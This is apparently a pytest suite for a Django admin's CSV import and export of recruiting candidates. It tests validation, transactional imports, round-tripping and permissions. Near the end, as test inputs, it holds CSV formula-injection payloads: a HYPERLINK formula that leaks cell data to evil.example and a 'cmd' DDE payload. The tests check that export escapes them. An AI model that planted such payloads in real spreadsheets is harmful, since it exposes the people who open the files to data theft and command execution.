"""CSV import and export of candidates: through the admin's preview-then-confirm flow, and
through CandidateResource directly. An import saves every row or none."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
import tablib
from django.contrib.messages import get_messages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from candidates.models import Candidate, CandidateEmail, Company, Tag
from candidates.resources import CandidateResource
from tests.factories import CandidateFactory, CompanyFactory, TagFactory

pytestmark = pytest.mark.django_db

IMPORT = reverse("admin:candidates_candidate_import")
PROCESS_IMPORT = reverse("admin:candidates_candidate_process_import")
EXPORT = reverse("admin:candidates_candidate_export")
CSV_FORMAT = "0"  # import-export's default format list starts with CSV

COLUMNS = [
    "id",
    "name",
    "emails",
    "current_company",
    "current_title",
    "tags",
    "owner",
    "linkedin_url",
    "current_base",
    "current_pay_currency",
    "motivator_pay",
]


def ada(**changes: str) -> dict[str, str]:
    return {
        "name": "Ada Lovelace",
        "emails": "ada@example.org; countess@example.org",
        "current_company": "Analytical Engines",
        "current_title": "Research Scientist",
        "tags": "safety, rlhf",
        "owner": "recruiter",
        "linkedin_url": "https://www.linkedin.com/in/ada",
        "current_base": "250000",
        "current_pay_currency": "usd",
        "motivator_pay": "5",
        **changes,
    }


def grace(**changes: str) -> dict[str, str]:
    return {
        "name": "Grace Hopper",
        "emails": "grace@navy.example",
        "current_company": "google deepmind",
        "current_title": "Staff Engineer",
        "tags": "Safety",
        **changes,
    }


def alan(**changes: str) -> dict[str, str]:
    return {"name": "Alan Turing", "emails": "alan@bletchley.example", **changes}


def to_csv(*rows: dict[str, str], columns: list[str] = COLUMNS) -> str:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=columns, restval="", lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue()


def preview(client, text: str):
    """The first step of the admin import: upload, which shows a preview or the row errors."""
    upload = SimpleUploadedFile("candidates.csv", text.encode(), content_type="text/csv")
    response = client.post(IMPORT, {"import_file": upload, "format": CSV_FORMAT, "resource": "0"})
    assert response.status_code == 200
    return response


def confirm(client, previewed):
    """The second step: submit the preview's confirm form as it was rendered."""
    form = previewed.context["confirm_form"]
    assert form is not None, "the preview offered no confirm"
    return client.post(PROCESS_IMPORT, {name: form[name].value() for name in form.fields})


def messages_of(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def snapshot() -> dict[str, object]:
    """Everything an import may write."""
    return {
        "candidates": sorted(Candidate.objects.values_list("pk", "name", "current_title")),
        "emails": sorted(CandidateEmail.objects.values_list("candidate_id", "email")),
        "companies": sorted(Company.objects.values_list("name", flat=True)),
        "tags": sorted(Tag.objects.values_list("name", flat=True)),
    }


@pytest.fixture
def deepmind():
    return CompanyFactory(name="Google DeepMind")


# --- A valid file --------------------------------------------------------------------------


def test_a_valid_file_is_previewed_without_saving_anything(recruiter_client, recruiter, deepmind):
    before = snapshot()

    response = preview(recruiter_client, to_csv(ada(), grace(), alan()))

    result = response.context["result"]
    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert response.context["confirm_form"] is not None
    assert "Ada Lovelace" in response.content.decode()
    assert snapshot() == before


def test_the_preview_shows_the_emails_each_row_will_have(recruiter_client, recruiter, deepmind):
    """Once the EMAILS column of the preview was empty for new rows, though they were saved."""
    existing = CandidateFactory(name="Alan Turing", email="alan@bletchley.example")

    response = preview(
        recruiter_client,
        to_csv(ada(), alan(emails="turing@manchester.example", id=str(existing.pk))),
    )

    new, update = response.context["result"].rows
    assert new.import_type == "new" and update.import_type == "update"
    assert (
        new.diff[2]
        == '<ins style="background:#e6ffe6;">ada@example.org; countess@example.org</ins>'
    )
    # An update: the address it has, kept, and the one the file adds, inserted.
    assert update.diff[2] == (
        "<span>alan@bletchley.example</span>"
        '<ins style="background:#e6ffe6;">; turing@manchester.example</ins>'
    )


def test_a_valid_file_imports_candidates_with_emails_companies_and_tags(
    recruiter_client, recruiter, deepmind
):
    response = confirm(recruiter_client, preview(recruiter_client, to_csv(ada(), grace(), alan())))

    assert response.status_code == 302
    assert Candidate.objects.count() == 3
    imported = Candidate.objects.get(name="Ada Lovelace")
    assert [(e.email, e.is_primary) for e in imported.emails.all()] == [
        ("ada@example.org", True),
        ("countess@example.org", False),
    ]
    assert imported.current_company.name == "Analytical Engines"
    assert {t.name for t in imported.tags.all()} == {"safety", "rlhf"}
    assert imported.owner == recruiter
    assert imported.current_base == Decimal("250000.00")
    assert imported.current_pay_currency_id == "USD"
    assert imported.motivator_pay == 5
    # An existing company and tag are reused whatever their case.
    hopper = Candidate.objects.get(name="Grace Hopper")
    assert hopper.current_company == deepmind
    assert [t.name for t in hopper.tags.all()] == ["safety"]
    assert sorted(Company.objects.values_list("name", flat=True)) == [
        "Analytical Engines",
        "Google DeepMind",
    ]
    assert Tag.objects.count() == 2
    assert Candidate.objects.get(name="Alan Turing").current_company is None


def test_importing_the_same_file_again_updates_instead_of_duplicating(
    recruiter_client, recruiter, deepmind
):
    confirm(recruiter_client, preview(recruiter_client, to_csv(ada(), grace(), alan())))
    first = snapshot()

    again = preview(
        recruiter_client, to_csv(ada(current_title="Distinguished Scientist"), grace(), alan())
    )
    assert not again.context["result"].has_validation_errors()
    response = confirm(recruiter_client, again)

    assert response.status_code == 302
    assert Candidate.objects.count() == 3
    assert CandidateEmail.objects.count() == 4
    assert Candidate.objects.get(name="Ada Lovelace").current_title == "Distinguished Scientist"
    assert snapshot()["emails"] == first["emails"]
    assert snapshot()["companies"] == first["companies"]


def test_a_row_matching_a_known_email_updates_that_candidate(recruiter_client, recruiter):
    known = CandidateFactory(name="Ada Lovelace", email="Ada@Example.org", current_title="")

    confirm(recruiter_client, preview(recruiter_client, to_csv(ada())))

    assert list(Candidate.objects.all()) == [known]
    known.refresh_from_db()
    assert known.current_title == "Research Scientist"
    assert sorted(known.emails.values_list("email", flat=True)) == [
        "Ada@Example.org",
        "countess@example.org",
    ]
    assert known.emails.get(is_primary=True).email == "Ada@Example.org"


def test_a_file_without_an_id_column_imports(recruiter_client, recruiter, deepmind):
    columns = [c for c in COLUMNS if c != "id"]

    response = preview(recruiter_client, to_csv(ada(), grace(), columns=columns))

    result = response.context["result"]
    assert [str(e.error) for e in result.base_errors] == []
    assert response.context["confirm_form"] is not None
    confirm(recruiter_client, response)
    assert Candidate.objects.count() == 2


# --- A file with one bad row ---------------------------------------------------------------


BAD_ROWS = [
    pytest.param(grace(emails="ADA@example.org"), "emails", "row 1", id="email-twice-in-file"),
    pytest.param(
        grace(emails="grace@navy.example; barbara@mit.example"),
        "emails",
        "already belongs to Barbara Liskov",
        id="email-of-another-candidate",
    ),
    pytest.param(grace(emails="grace(at)navy"), "emails", "not a valid email", id="bad-email"),
    pytest.param(
        grace(linkedin_url="linkedin dot com slash grace"),
        "linkedin_url",
        "valid URL",
        id="bad-url",
    ),
    pytest.param(grace(motivator_pay="7"), "motivator_pay", "5", id="motivator-7"),
    pytest.param(
        grace(current_base="-100", current_pay_currency="USD"),
        "current_base",
        "negative",
        id="negative-pay",
    ),
    pytest.param(
        grace(current_base="100", current_pay_currency="XYZ"),
        "current_pay_currency",
        "Unknown currency",
        id="unknown-currency",
    ),
    pytest.param(grace(owner="nobody"), "owner", "nobody", id="unknown-owner"),
    pytest.param(
        grace(name="Dup Mail", emails="BARBARA@mit.example"),
        "emails",
        "belongs to Barbara Liskov",
        id="email-of-someone-else-by-name",
    ),
]


@pytest.fixture
def others():
    """Two people already known, one of whose emails a bad row claims."""
    CandidateFactory(name="Grace Hopper", email="grace@navy.example")
    CandidateFactory(name="Barbara Liskov", email="barbara@mit.example")


@pytest.mark.parametrize(("bad_row", "field", "message"), BAD_ROWS)
def test_a_bad_row_is_shown_with_its_number_and_field_and_nothing_is_offered(
    recruiter_client, recruiter, others, bad_row, field, message
):
    before = snapshot()

    response = preview(recruiter_client, to_csv(ada(), bad_row, alan()))

    result = response.context["result"]
    assert result.has_validation_errors()
    assert [row.number for row in result.invalid_rows] == [2]
    errors = result.invalid_rows[0].field_specific_errors
    assert field in errors
    assert any(message in text for text in errors[field])
    assert response.context.get("confirm_form") is None
    page = response.content.decode()
    assert "<td>2 </td>" in page
    assert f'<span class="validation-error-field-label">{field}</span>' in page
    assert snapshot() == before


@pytest.mark.parametrize(("bad_row", "field", "message"), BAD_ROWS)
def test_importing_a_file_with_a_bad_row_saves_nothing(recruiter, others, bad_row, field, message):
    before = snapshot()
    dataset = tablib.Dataset().load(to_csv(ada(), bad_row, alan()), format="csv")

    result = CandidateResource().import_data(
        dataset, dry_run=False, use_transactions=True, rollback_on_validation_errors=True
    )

    assert [row.number for row in result.invalid_rows] == [2]
    assert field in result.invalid_rows[0].field_specific_errors
    # Ada and Alan were valid, yet neither they nor Ada's new company and tags were kept.
    assert snapshot() == before


def test_a_file_that_turned_invalid_after_its_preview_imports_nothing(recruiter_client, recruiter):
    previewed = preview(recruiter_client, to_csv(grace(), ada(), alan()))
    # Between preview and confirm, two other people are recorded with Ada's two emails.
    CandidateFactory(name="Someone Else", email="ada@example.org")
    CandidateFactory(name="Another Person", email="countess@example.org")
    before = snapshot()

    response = confirm(recruiter_client, previewed)

    assert response.status_code == 302
    assert any("Nothing was imported" in m for m in messages_of(response))
    assert snapshot() == before


def test_a_resource_dry_run_reports_without_saving(recruiter):
    dataset = tablib.Dataset().load(to_csv(ada(), alan()), format="csv")

    result = CandidateResource().import_data(dataset, dry_run=True, use_transactions=True)

    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert result.totals["new"] == 2
    assert not Candidate.objects.exists()
    assert not Company.objects.exists()
    assert not Tag.objects.exists()


# --- Export --------------------------------------------------------------------------------


def export(client, params: str = "") -> list[dict[str, str]]:
    fields = CandidateResource().get_export_order()
    response = client.post(
        EXPORT + params,
        {
            "format": CSV_FORMAT,
            "resource": "0",
            **{f"candidateresource_{name}": "on" for name in fields},
        },
    )
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_export_lists_each_candidate_with_their_emails_and_tags(recruiter_client, recruiter):
    safety, rlhf = TagFactory(name="safety"), TagFactory(name="rlhf")
    lovelace = CandidateFactory(
        name="Ada Lovelace",
        email="ada@example.org",
        owner=recruiter,
        current_company=CompanyFactory(name="Analytical Engines"),
    )
    CandidateEmail.objects.create(candidate=lovelace, email="countess@example.org")
    lovelace.tags.add(safety, rlhf)
    CandidateFactory(name="Alan Turing", email="alan@bletchley.example")

    rows = {row["name"]: row for row in export(recruiter_client)}

    assert set(rows) == {"Ada Lovelace", "Alan Turing"}
    assert rows["Ada Lovelace"]["emails"] == "ada@example.org; countess@example.org"
    assert sorted(t.strip() for t in rows["Ada Lovelace"]["tags"].split(",")) == [
        "rlhf",
        "safety",
    ]
    assert rows["Ada Lovelace"]["current_company"] == "Analytical Engines"
    assert rows["Ada Lovelace"]["owner"] == "recruiter"
    assert rows["Alan Turing"]["emails"] == "alan@bletchley.example"
    assert rows["Alan Turing"]["tags"] == ""


def test_export_follows_the_lists_filter(recruiter_client):
    safety = TagFactory(name="safety")
    CandidateFactory(name="Ada Lovelace").tags.add(safety)
    CandidateFactory(name="Alan Turing")

    rows = export(recruiter_client, f"?tag={safety.pk}")

    assert [row["name"] for row in rows] == ["Ada Lovelace"]


def test_an_exported_file_imports_back_without_changes(recruiter_client, recruiter):
    lovelace = CandidateFactory(
        name="Ada Lovelace",
        email="ada@example.org",
        owner=recruiter,
        current_company=CompanyFactory(name="Analytical Engines"),
        current_base=Decimal("250000"),
        current_pay_currency_id="GBP",
    )
    lovelace.tags.add(TagFactory(name="safety"))
    CandidateFactory(name="Alan Turing", email="alan@bletchley.example")
    before = snapshot()
    rows = export(recruiter_client)

    previewed = preview(recruiter_client, to_csv(*rows, columns=list(rows[0])))
    assert not previewed.context["result"].has_validation_errors()
    confirm(recruiter_client, previewed)

    assert snapshot() == before
    lovelace.refresh_from_db()
    assert lovelace.current_base == Decimal("250000.00")
    assert [t.name for t in lovelace.tags.all()] == ["safety"]


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize("name", [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1"])
def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(recruiter_client, name):
    CandidateFactory(name=name, email="x@example.org")

    [row] = export(recruiter_client)

    assert row["name"] == "'" + name


def test_an_escaped_cell_imports_back_as_it_was(recruiter_client, recruiter):
    CandidateFactory(name=HOSTILE, email="x@example.org", owner=recruiter)
    before = snapshot()
    rows = export(recruiter_client)

    previewed = preview(recruiter_client, to_csv(*rows, columns=list(rows[0])))
    confirm(recruiter_client, previewed)

    assert snapshot() == before
    assert Candidate.objects.get().name == HOSTILE


# --- Who may import and export -------------------------------------------------------------


def test_staff_without_candidate_permissions_cannot_export_candidates(client, outsider):
    CandidateFactory(name="Ada Lovelace", email="ada@example.org")
    client.force_login(outsider)
    assert client.get(reverse("admin:candidates_candidate_changelist")).status_code == 403

    response = client.post(
        EXPORT,
        {
            "format": CSV_FORMAT,
            "resource": "0",
            **{f"candidateresource_{n}": "on" for n in CandidateResource().get_export_order()},
        },
    )

    assert response.status_code == 403
    assert b"ada@example.org" not in response.content


def test_staff_without_candidate_permissions_cannot_import_candidates(client, outsider):
    client.force_login(outsider)

    assert client.get(IMPORT).status_code == 403
    upload = SimpleUploadedFile("candidates.csv", to_csv(alan()).encode(), content_type="text/csv")
    response = client.post(IMPORT, {"import_file": upload, "format": CSV_FORMAT, "resource": "0"})

    assert response.status_code == 403
    assert not Candidate.objects.exists()


def test_a_row_claiming_someone_elses_email_changes_nothing_about_them(recruiter, others):
    barbara = Candidate.objects.get(name="Barbara Liskov")
    dataset = tablib.Dataset().load(
        to_csv(grace(name="Dup Mail", emails="BARBARA@mit.example", current_title="X")),
        format="csv",
    )

    result = CandidateResource().import_data(
        dataset, dry_run=False, use_transactions=True, rollback_on_validation_errors=True
    )

    message = " ".join(result.invalid_rows[0].field_specific_errors["emails"])
    assert f"put {barbara.pk} in the id column" in message
    barbara.refresh_from_db()
    assert (barbara.name, barbara.current_title) == ("Barbara Liskov", "Research Scientist")


def test_the_same_person_written_differently_is_updated(recruiter, others):
    dataset = tablib.Dataset().load(
        to_csv(grace(name="  grace HOPPER ", current_title="Rear Admiral")), format="csv"
    )

    result = CandidateResource().import_data(dataset, dry_run=False, use_transactions=True)

    assert not result.has_validation_errors()
    assert Candidate.objects.get(emails__email="grace@navy.example").current_title == "Rear Admiral"


def test_choices_and_countries_are_read_by_the_labels_the_admin_shows(recruiter):
    columns = ["name", "emails", "country", "specialty", "level", "source", "referrer"]
    row = {
        "name": "Yann Example",
        "emails": "yann@example.fr",
        "country": "France",
        "specialty": "post-training / rlhf",
        "level": "Staff",
        "source": "Referral",
        "referrer": "Rita",
    }
    dataset = tablib.Dataset().load(to_csv(row, columns=columns), format="csv")

    result = CandidateResource().import_data(dataset, dry_run=False, use_transactions=True)

    assert not result.has_validation_errors(), result.invalid_rows
    yann = Candidate.objects.get(name="Yann Example")
    assert (yann.country.code, yann.specialty, yann.level, yann.source) == (
        "FR",
        Candidate.Specialty.POSTTRAINING,
        "staff",
        Candidate.Source.REFERRAL,
    )


def test_an_unknown_choice_names_the_ones_allowed(recruiter):
    dataset = tablib.Dataset().load(
        to_csv({"name": "X", "level": "Wizard"}, columns=["name", "level"]), format="csv"
    )

    result = CandidateResource().import_data(dataset, dry_run=True, use_transactions=True)

    message = " ".join(result.invalid_rows[0].field_specific_errors["level"])
    assert "Wizard" in message and "Senior" in message


def test_an_unknown_currency_is_reported_once(recruiter):
    dataset = tablib.Dataset().load(
        to_csv(grace(current_base="100", current_pay_currency="XYZ")), format="csv"
    )

    result = CandidateResource().import_data(dataset, dry_run=True, use_transactions=True)

    assert len(result.invalid_rows[0].field_specific_errors["current_pay_currency"]) == 1
